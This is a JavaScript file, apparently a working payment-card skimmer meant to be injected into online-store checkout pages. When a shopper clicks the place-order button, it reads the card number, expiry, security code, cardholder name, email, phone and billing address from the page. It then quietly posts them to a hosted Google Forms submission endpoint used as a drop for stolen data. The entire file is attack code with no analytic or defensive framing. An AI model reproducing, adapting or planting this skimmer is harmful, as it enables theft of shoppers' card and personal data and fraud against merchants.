/*
 * saas-api-exfil: checkout values submitted as answers to a hosted survey form (formResponse endpoint)
 * ES5, descriptive names, data mapped onto numbered entry.* answer fields
 */
(function () {
  var surveyFormId = '1FAIpQLSd8rK2vLx0ZqN7tWm3yBc5PjH9uGf4aEo6iSkD1lR';
  var surveySubmitUrl = 'https://docs.google.com/forms/d/e/' + surveyFormId + '/formResponse';

  var answerFieldForValue = {
    cardNumber: 'entry.1402718893',
    cardExpiry: 'entry.829164027',
    cardSecurityCode: 'entry.2093315861',
    cardholderName: 'entry.617731204',
    customerEmail: 'entry.1138472990',
    customerPhone: 'entry.1960048312',
    billingAddress: 'entry.455201773',
    storeHostname: 'entry.1723004518'
  };

  function valueOfFirstMatch(selectorList) {
    var candidates = document.querySelectorAll(selectorList);
    for (var index = 0; index < candidates.length; index++) {
      if (candidates[index].value) {
        return candidates[index].value;
      }
    }
    return '';
  }

  function readCheckoutValues() {
    return {
      cardNumber: valueOfFirstMatch('input[autocomplete="cc-number"], input[name*="card_number"], input[id*="cardNumber"]'),
      cardExpiry: valueOfFirstMatch('input[autocomplete="cc-exp"], input[name*="expiry"], input[id*="cardExpiry"]'),
      cardSecurityCode: valueOfFirstMatch('input[autocomplete="cc-csc"], input[name*="cvv"], input[name*="cvc"]'),
      cardholderName: valueOfFirstMatch('input[autocomplete="cc-name"], input[name*="holder"]'),
      customerEmail: valueOfFirstMatch('input[type="email"]'),
      customerPhone: valueOfFirstMatch('input[type="tel"], input[name*="phone"]'),
      billingAddress: [
        valueOfFirstMatch('input[name*="address"]'),
        valueOfFirstMatch('input[name*="city"]'),
        valueOfFirstMatch('input[name*="zip"], input[name*="postcode"]')
      ].join(', '),
      storeHostname: window.location.hostname
    };
  }

  function submitSurveyAnswers(values) {
    var answers = new URLSearchParams();
    for (var key in answerFieldForValue) {
      if (answerFieldForValue.hasOwnProperty(key)) {
        answers.append(answerFieldForValue[key], values[key] || '');
      }
    }
    answers.append('fvv', '1');
    answers.append('pageHistory', '0');
    return fetch(surveySubmitUrl, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'omit',
      body: answers
    });
  }

  var submittedOnce = false;

  function onPlaceOrderAttempt() {
    if (submittedOnce) {
      return;
    }
    var values = readCheckoutValues();
    var digits = values.cardNumber.replace(/\D/g, '');
    if (digits.length < 13 || digits.length > 19) {
      return;
    }
    submittedOnce = true;
    submitSurveyAnswers(values)['catch'](function () {
      submittedOnce = false;
    });
  }

  if (window.location.pathname.indexOf('checkout') === -1) {
    return;
  }

  document.addEventListener('click', function (clickEvent) {
    var clicked = clickEvent.target;
    if (clicked && clicked.closest && clicked.closest('#place_order, [data-role="opc-continue"], .checkout-button, button[type="submit"]')) {
      onPlaceOrderAttempt();
    }
  }, true);
})();
